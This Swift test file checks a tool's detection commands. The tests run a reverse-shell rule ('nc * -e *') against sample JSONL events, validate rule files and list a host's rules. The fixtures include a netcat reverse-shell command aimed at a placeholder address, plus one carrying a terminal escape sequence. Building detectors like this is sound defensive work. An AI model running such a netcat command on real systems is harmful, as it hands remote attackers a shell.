import Foundation
import Testing
import UsherWire

@testable import UsherCommands

@Suite struct DetectCommandTests {
    private static let rule = """
        summary = "a shell was handed to the network"
        on = ["exec"]
        command = ["nc * -e *"]
        severity = "high"
        action = ["alert", "end"]
        """

    private static func line(_ kind: String, _ command: String, at time: Int) -> String {
        """
        {"time":\(time),"class_uid":1007,"activity_id":1,"message":"u-a ran \(command)","status_id":1,\
        "process":{"cmd_line":"\(command)"},"usher":{"kind":"\(kind)","session":"s-a"}}
        """
    }

    private static let evidence =
        [
            line("exec", "ls", at: 1_000), line("exec", "nc 192.0.2.1 4444 -e /bin/sh", at: 2_000),
            line("file", "nc 192.0.2.1 4444 -e /bin/sh", at: 3_000), line("exec", "nc h 1 -e \\u001b[2Jsh", at: 60_000),
        ].joined(separator: "\n") + "\n"

    @Test func storedEvidenceShowsWhatARuleWouldHaveFound() throws {
        let directory = try TemporaryDirectory()
        let rule = try directory.write("reverse-shell.toml", Self.rule)
        let evidence = try directory.write("evidence.jsonl", Self.evidence)
        let console = TestConsole()
        let table = console.run("detect", "test", rule, "--against", evidence)
        #expect(table.status == .success && table.lines.count == 3, "\(table.output)\(table.notices)")
        #expect(table.lines[1].contains("reverse-shell\ts-a\t1\talert,end\tu-a ran nc 192.0.2.1 4444 -e /bin/sh"))
        #expect(!table.output.contains("\u{1B}") && table.notices.contains("2 findings in 4 events"))
        console.input = Array(Self.evidence.utf8)
        let json = console.run("detect", "test", rule, "--against", "-", "--json")
        guard case .array(let found)? = json.json else {
            Issue.record("no list")
            return
        }
        #expect(found.count == 2)
    }

    @Test func whatIsNoEvidenceEndsItWithItsLine() throws {
        let directory = try TemporaryDirectory()
        let rule = try directory.write("reverse-shell.toml", Self.rule)
        let wrong = try directory.write("wrong.jsonl", Self.evidence + "{\"time\":\n")
        let result = TestConsole().run("detect", "test", rule, "--against", wrong)
        #expect(result.status == .failure && result.notices.contains("line 5 is no JSON"))
        let missing = TestConsole().run("detect", "test", rule, "--against", directory.file("none"))
        #expect(missing.status == .notFound)
    }

    @Test func rulesAreCheckedAndListed() throws {
        let directory = try TemporaryDirectory()
        let rule = try directory.write("reverse-shell.toml", Self.rule)
        let right = TestConsole().run("detect", "check", rule)
        #expect(right.status == .success && right.output == "1 rule, no mistakes\n")
        let wrong = try directory.write("wrong.toml", "summary = \"x\"\non = [\"nothing\"]\n")
        let result = TestConsole().run("detect", "check", rule, wrong)
        #expect(
            result.status == .failure && result.notices.contains("wrong.toml:2:7: error: on element 1 is not one of"))
    }

    @Test func theHostsRulesAreListed() throws {
        let host = try TestHost()
        let root = host.directory.path
        let folder = host.directory.file("etc/usher/detect.d")
        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: false)
        try host.directory.write("etc/usher/detect.d/reverse-shell.toml", Self.rule)
        let list = TestConsole().run("detect", "list", "--root", root)
        #expect(list.output.contains("reverse-shell\texec\thigh\talert,end\ta shell was handed to the network"))
        try host.directory.write("etc/usher/detect.d/wrong.toml", "summary = 1\n")
        #expect(TestConsole().run("detect", "list", "--root", root).status == .failure)
        let check = TestConsole().run("detect", "check", "--root", root)
        #expect(check.status == .failure && check.notices.contains("summary is an integer, not a string"))
    }
}
